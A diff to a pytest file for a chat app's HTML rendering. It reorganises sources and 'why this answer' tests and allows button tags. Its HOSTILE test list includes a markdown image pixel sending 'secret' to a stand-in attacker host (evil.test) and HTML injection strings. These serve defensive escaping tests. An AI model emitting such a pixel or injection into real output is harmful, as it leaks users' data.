@@ -18,9 +18,8 @@ from app.ui.format import (
     progress_rows,
     question_html,
     size_words,
-    sources_html,
-    why_html,
 )
+from app.ui.sources import sources_html
 
 HOSTILE = (
     "![pixel](http://evil.test/x.png?d=secret)",
@@ -46,7 +45,24 @@ HOSTILE = (
     "&lt;img src=x&gt; <!-- <img> -->",
     "line\n\n<div>\n\n<img src=x>",
 )
-OURS = {"p", "ol", "ul", "li", "strong", "em", "code", "pre", "br", "blockquote", "span", "div", "table", "h1", "h2"}
+OURS = {
+    "button",
+    "p",
+    "ol",
+    "ul",
+    "li",
+    "strong",
+    "em",
+    "code",
+    "pre",
+    "br",
+    "blockquote",
+    "span",
+    "div",
+    "table",
+    "h1",
+    "h2",
+}
 
 # The same dialect as the browser's: CommonMark with tables and addresses made into links, HTML let through.
 dialect = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("table")
@@ -71,7 +87,7 @@ def test_an_answer_holds_no_image_no_link_and_no_foreign_tag(text: str) -> None:
     markdown = answer_markdown(text, ["P1"])
     html = dialect.render(markdown)
     assert Markup(html).tags <= OURS, html
-    assert Markup(html).attributes <= {"class"}, html
+    assert Markup(html).attributes <= {"class", "type", "value"}, html
     assert "://" not in markdown
     assert "www." not in markdown
 
@@ -83,13 +99,12 @@ def test_what_is_not_let_through_is_read_as_it_was_written() -> None:
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-@pytest.mark.parametrize("place", ["question", "title", "quote", "why"])
+@pytest.mark.parametrize("place", ["question", "title", "quote"])
 def test_text_from_outside_is_escaped_wherever_it_stands(text: str, place: str) -> None:
     html = {
         "question": lambda: question_html(text),
         "title": lambda: sources_html([citation(title=text)]),
         "quote": lambda: sources_html([citation(quote=text)]),
-        "why": lambda: why_html(trace(reason=f"rules: {text}", models=[text])),
     }[place]()
     assert not Markup(html).tags & {"img", "script", "svg", "iframe", "a"}
     assert not [name for name in Markup(html).attributes if name.startswith("on") or name in ("src", "href", "style")]
@@ -122,22 +137,6 @@ def test_known_labels_are_set_off_and_stay_readable() -> None:
     assert re.sub(r"<[^>]+>", "", html).strip() == "It is England [P1][G2], not [P7]."
 
 
-def test_sources_are_split_into_yours_and_industry_with_page_standing_and_quote() -> None:
-    html = sources_html([citation(), citation(label="G1", kb="global", title="Guide", page=2, standing="none")])
-    yours, industry = html.split("Industry")
-    for shown in ("Yours", "[P1]".replace("[", "&#91;"), "Deal", "signed, page 3", "governed by the laws of England"):
-        assert shown in yours
-    assert "Guide" in industry
-    assert ">page 2<" in industry
-    assert sources_html([]) == ""
-
-
-def test_lines_of_a_printed_page_flow_and_lyrics_stay_lines() -> None:
-    printed = "This agreement is governed by the laws of England and Wales,\nand the courts have\njurisdiction."
-    assert "and Wales, and the courts have jurisdiction" in sources_html([citation(quote=printed)])
-    assert "stay with me<br>until dawn" in sources_html([citation(quote="stay with me\nuntil dawn")])
-
-
 @pytest.mark.parametrize(
     ("state", "citations", "said"),
     [
@@ -155,10 +154,17 @@ def test_every_state_but_a_cited_answer_is_said_in_words(state: str, citations: 
 
 
 def test_a_cited_answer_needs_no_words() -> None:
-    rows = message_rows(message(citations=[citation()]), trace())
+    rows = message_rows(message(citations=[citation()]))
     assert 'class="state' not in rows[1]["content"]
     assert [row["role"] for row in rows] == ["assistant", "assistant"]
-    assert "Why this answer" in rows[1]["content"]
+
+
+def test_why_is_asked_for_later_and_only_where_there_is_a_trace() -> None:
+    assert (
+        '<details class="why" id="why-2"><summary>Why this answer</summary></details>'
+        in (message_rows(message(citations=[citation()]))[1]["content"])
+    )
+    assert message_rows(message(trace_id=None, citations=[citation()]))[1]["content"].count("Why") == 0
 
 
 def test_an_answer_stopped_before_its_first_word_says_so() -> None:
@@ -168,25 +174,6 @@ def test_an_answer_stopped_before_its_first_word_says_so() -> None:
 def test_an_answer_on_its_way_shows_what_is_done_until_words_come() -> None:
     assert "Searching &lt;b&gt;" in progress_rows("", [], "Searching <b>")[0]["content"]
     assert progress_rows("So far ", ["P1"], "x")[0]["content"] == "So far"
-
-
-def test_why_says_intent_kbs_models_and_time_in_plain_words() -> None:
-    text = re.sub(r"<[^>]+>", " ", why_html(trace()))
-    for said in (
-        "about your own documents (decided by rules: asks for a fact)",
-        "your documents and the industry knowledge base",
-        "minilm and bm25",
-        "Missing: openai",
-        "2 passages considered, 1 put before the answer",
-        "Search took 12 ms",
-    ):
-        assert said in text
-
-
-def test_why_of_a_direct_answer_speaks_of_no_search() -> None:
-    text = why_html(trace(direct=True, reason="model: whatever"))
-    assert "without a search (decided by the language model)" in text
-    assert "Searched" not in text
 
 
 def test_sizes_as_people_read_them() -> None:
@@ -207,22 +194,3 @@ def message(**changed: Any) -> MessagePublic:
         "state": "answered", "citations": [], "trace_id": "t", "rating": None, "created": datetime.now(UTC),
     }  # fmt: skip
     return MessagePublic.model_validate(fields | changed)
-
-
-def trace(**changed: Any) -> dict[str, Any]:
-    fields: dict[str, Any] = {
-        "intent": "personal", "direct": False, "reason": "rules: asks for a fact", "kbs": ["personal", "global"],
-        "models": ["minilm", "bm25"], "missing": ["openai"], "milliseconds": {"embed": 8.0, "search": 4.0},
-        "candidates": [{"outcome": "prompt"}, {"outcome": "cut"}], "prompt": [],
-    }  # fmt: skip
-    return fields | changed
-
-
-def test_a_source_that_is_gone_says_so() -> None:
-    gone = sources_html([citation(title="Deleted document", quote="", deleted=True)])
-    assert "This document was deleted." in gone
-    assert "<blockquote>" not in gone
-    older = sources_html([citation(replaced=True)])
-    assert "newer version" in older
-    assert "<blockquote>" in older
-    assert 'class="gone"' not in sources_html([citation()])
